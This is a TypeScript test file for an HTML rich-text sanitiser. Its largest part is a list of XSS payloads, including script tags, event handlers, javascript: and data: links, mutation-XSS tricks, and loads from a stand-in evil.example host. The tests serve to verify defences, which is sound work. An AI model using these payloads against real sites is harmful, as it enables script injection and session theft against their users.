import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { plainTextOf, richText } from '#contracts/rules/rich-text.ts';
import { cleanRichText, hasText, linkOf } from '#shared/rich-text/clean-rich-text.ts';
import { readRichText, textOfRichText } from '#shared/rich-text/read-rich-text.ts';
import { anyCharacter } from '#tests/support/any-character.ts';

/**
 * Strict parser of the cleaned output: allowed tags in lower case, known attributes in double
 * quotes, and no other `<` or `>`.
 */
function expectHarmless(cleaned: string, from: string): void {
  const hint = `${from} → ${cleaned}`;
  const text = cleaned.replace(/<(\/?)([a-z]+)((?: [a-z-]+="[^"<>]*")*)( \/)?>/g, (_, ...found) => {
    const [slash, tag, attributes] = found as [string, string, string];
    expect(richText.tags, hint).toContain(tag);
    if (slash) expect(attributes, hint).toBe('');
    for (const [, name = '', value = ''] of attributes.matchAll(/ ([a-z-]+)="([^"]*)"/g)) {
      if (tag === 'a' && name === 'href')
        expect(value, hint).toMatch(/^(https?:\/\/|mailto:|tel:)/);
      else if (tag === 'p' && name === 'data-align') expect(richText.alignments).toContain(value);
      else if (tag === 'ol') expect([name, Number(value) > 0], hint).toEqual(['start', true]);
      else expect([tag, name], hint).toEqual(['a', 'download']);
    }
    return '';
  });
  expect(text, hint).not.toMatch(/[<>]/);
  // Cleaning twice keeps the same text: no text can turn into markup in another parser.
  expect(textOfRichText(cleanRichText(cleaned)), hint).toBe(textOfRichText(cleaned));
}

const attacks = [
  '<ol start="1 onclick=alert(1)"><li onclick=alert(1)>x<ul style="x:y"><li>y</ol>',
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example></sCrIpT>',
  '<script\u0000>alert(1)</script>',
  '<script/x>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<image href=x onerror=alert(1)>',
  '<p onclick=alert(1) ONMOUSEOVER=alert(2) style="x:expression(alert(3))">text</p>',
  '<p style="background:url(//evil.example/x)">text</p>',
  '<p data-align="center&quot; onclick=alert(1)">text</p>',
  `<p data-align='"><img src=x onerror=alert(1)>'>text</p>`,
  '<a href="javascript:alert(1)">link</a>',
  '<a href=" \u0001javascript:alert(1)">link</a>',
  '<a href="java\tscript:alert(1)">link</a>',
  '<a href="java&#10;script:alert(1)">link</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">link</a>',
  '<a href="java\u202escript:alert(1)">link</a>',
  '<a href="JAVASCRIPT:alert(1)">link</a>',
  '<a href="vbscript:msgbox(1)">link</a>',
  '<a href="data:text/html,<script>alert(1)</script>">link</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
  '<a href="blob:https://portal.example/1">link</a>',
  '<a href="file:///etc/passwd">link</a>',
  '<a href="filesystem:https://portal.example/x">link</a>',
  '<a href="attachment:0">link</a>',
  '<a href="//evil.example">link</a>',
  '<a href="/\\evil.example">link</a>',
  '<a href="view-source:https://portal.example">link</a>',
  '<a href="https://ok.example/&quot; onclick=&quot;alert(1)">link</a>',
  '<a href="https://ok.example" onclick="alert(1)" target="_self" ping="//evil.example">link</a>',
  '<a xlink:href="javascript:alert(1)">link</a>',
  '<a download="<img src=x onerror=alert(1)>" href="https://ok.example">link</a>',
  '<a href="https://ok.example"><a href="javascript:alert(1)">nested</a></a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"><p>x</p></iframe>',
  '<object data="javascript:alert(1)"><p>x</p></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<svg><animate xlink:href=#x attributeName=href values="javascript:alert(1)"/><a id=x><text>x</text></a></svg>',
  '<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><desc><noscript></noscript></desc><style><!--</style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<noframes><img title="</noframes><img src onerror=alert(1)>"></noframes>',
  '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!doctype html><html><head><title>x</title></head><body onload=alert(1)>text',
  '<?xml version="1.0"?><?php echo 1 ?>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<p/onclick=alert(1)>text',
  '<p\nonclick\n=\nalert(1)>text',
  '<em<script>alert(1)</script>>text',
  '</p></div></body><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '\u003cscript\u003ealert(1)',
  '<p>unclosed <strong>bold <em>both',
  '<is-custom onclick=alert(1)>x</is-custom>',
  '<slot name=x onslotchange=alert(1)></slot>',
  `${'<em>'.repeat(3000)}deep`,
  `${'<p><blockquote>'.repeat(500)}<img src=x onerror=alert(1)>`,
];

test.each(attacks)('leaves no executable content in %s', (attack) => {
  expectHarmless(cleanRichText(attack), attack);
  const within = `<p>before ${attack} after</p>`;
  expectHarmless(cleanRichText(within), within);
});

test('leaves no executable content in any combination of the attacks', () => {
  const pieces = fc.oneof(
    fc.constantFrom(...attacks.filter(({ length }) => length < 500)),
    fc.constantFrom('<', '>', '"', "'", '</', '/>', '<!--', '-->', '&', '&#', ';', '`', '='),
    fc.constantFrom('<p data-align="right">', '</p>', '<a href="https://a.example">', '</a>'),
    fc.constantFrom('<svg>', '<math>', '<style>', '</style>', '<table>', '<select>', '<template>'),
    fc.string({ unit: anyCharacter, maxLength: 12 }),
  );
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
      const html = parts.join('');
      expectHarmless(cleanRichText(html), html);
    }),
    { numRuns: 1500 },
  );
});

test('ends a paragraph where the next one begins, even after elements between them are removed', () => {
  const cleaned = cleanRichText('<p>one<x-unknown><p>two');
  expect(cleaned).toMatch(/^<p>one<\/p><p>two<\/p>/);
  expect(cleanRichText(cleaned)).toBe(cleaned);
});

test('keeps the markup that the editor produces', () => {
  const kept =
    '<p data-align="center">One <strong>bold</strong> <em>italic</em> <u>under</u><br />line</p>' +
    '<blockquote><p>said</p></blockquote>' +
    '<ol start="3"><li><p>three</p><ul><li><p>in it</p></li></ul></li><li><p>four</p></li></ol>' +
    '<p><a href="https://example.org/a?b=1&amp;c=2">link</a> <a href="mailto:a@example.org">mail</a> <a href="tel:+919820012345">call</a></p>';
  expect(cleanRichText(kept)).toBe(kept);
});

test.each([
  ['<b>bold</b> <i>italic</i>', '<strong>bold</strong> <em>italic</em>'],
  ['<h2>Head</h2><div>one</div><div>two</div>', '<p>Head</p><p>one</p><p>two</p>'],
  ['<p style="color:red;text-align: right">x</p>', '<p data-align="right">x</p>'],
  ['<p style="text-align:start" class="x" id="y">x</p>', '<p>x</p>'],
  ['<p data-align="middle">x</p>', '<p>x</p>'],
  ['<ol start="1" type="a"><li value="7">x</li></ol>', '<ol><li>x</li></ol>'],
  ['<ol start="-5"><li>x</li></ol>', '<ol><li>x</li></ol>'],
  ['<ol start="10000"><li>x</li></ol>', '<ol><li>x</li></ol>'],
  ['<a href="/mediator/cases">here</a>', 'here'],
  ['<img src="https://example.org/x.png" alt="x">text', 'text'],
  ['<p>a\u0000b\u202ec\u2066d</p>', '<p>abcd</p>'],
  ['<p>क्\u200dष</p>', '<p>क्\u200dष</p>'],
  ['a < b & c', 'a &lt; b &amp; c'],
])('cleans %s to %s', (html, expected) => {
  expect(cleanRichText(html)).toBe(expected);
});

test('detects whether any text is present', () => {
  for (const empty of [
    '',
    '<p></p>',
    '<p> &nbsp; </p>',
    '<p>&#8203;&zwj;</p>',
    '<script>x</script>',
    '<p><br></p>',
  ])
    expect(hasText(cleanRichText(empty)), empty).toBe(false);
  for (const full of ['<p>a</p>', '?', '<p>₹</p>', '<p>क</p>', '🙂'])
    expect(hasText(cleanRichText(full)), full).toBe(true);
});

test('links are absolute, normalised URLs with an allowed scheme', () => {
  expect(linkOf('HTTPS://Example.ORG/a b')).toBe('https://example.org/a%20b');
  expect(linkOf('http://user:secret@example.org')).toBe('http://user:secret@example.org/');
  for (const other of ['', 'example.org', '/x', '//x', 'ftp://x', 'javascript:1', 'https:'])
    expect(linkOf(other), other).toBeUndefined();
});

test('extracts plain text on one line', () => {
  const cleaned = cleanRichText('<p>One &lt;two&gt;</p><p>three<br>four &amp; <b>five</b></p>');
  expect(textOfRichText(cleaned)).toBe('One <two> three four & five');
});

describe('the paragraphs of a list', () => {
  const linesOf = (html: string) =>
    readRichText(cleanRichText(html)).map(({ inlines, list, quoteDepth }) =>
      [
        '>'.repeat(quoteDepth),
        '-'.repeat(list?.depth ?? 0),
        list?.mark,
        inlines.map(({ text }) => text).join(''),
      ]
        .filter(Boolean)
        .join(' '),
    );

  test('have the mark of their item before its first paragraph', () => {
    expect(
      linesOf(
        '<p>Directions:</p><ol><li><p>File</p><p>in four weeks</p></li><li>Serve</li></ol>' +
          '<ul><li><p>a</p></li><li><p></p></li></ul><p>End</p>',
      ),
    ).toEqual(['Directions:', '- 1. File', '- in four weeks', '- 2. Serve', '- • a', '- •', 'End']);
  });

  test('are numbered 1., a. and i. by depth, from the number where the list starts', () => {
    expect(
      linesOf(
        '<ol start="7"><li>x<ol start="26"><li>y<ol><li>z<ol><li>deep</li></ol></li></ol></li><li>y</li></ol></li><li>x</li></ol>',
      ),
    ).toEqual(['- 7. x', '-- z. y', '--- i. z', '---- 1. deep', '-- aa. y', '- 8. x']);
    expect(linesOf('<ul><li>x<ol><li>y</li></ol></li></ul>')).toEqual(['- • x', '-- 1. y']);
    const romans = linesOf(
      `<ol><li>x<ol><li>y<ol start="3998">${'<li>x</li>'.repeat(3)}</ol></li></ol></li></ol>`,
    );
    expect(romans.slice(2)).toEqual(['--- mmmcmxcviii. x', '--- mmmcmxcix. x', '--- 4000. x']);
  });

  test('of an item without text of its own keep its mark', () => {
    expect(linesOf('<ol><li>x</li><li></li><li>z</li></ol>')).toEqual(['- 1. x', '- 2.', '- 3. z']);
    expect(linesOf('<ol><li><ol><li>x</li></ol></li></ol>')).toEqual(['- 1.', '-- a. x']);
  });

  test('are plain paragraphs outside of a list, and within quotes when quoted', () => {
    expect(linesOf('<li>x</li><p>y</p>')).toEqual(['x', 'y']);
    expect(linesOf('<blockquote><ul><li><p>x</p></li></ul></blockquote>')).toEqual(['> - • x']);
  });

  test('are separate in text without markup', () => {
    expect(textOfRichText('<ol><li>one</li><li><p>two</p></li></ol>three')).toBe('one two three');
    expect(plainTextOf('<ol><li>one</li><li><p>two</p></li></ol>')).toBe('one\ntwo');
  });
});
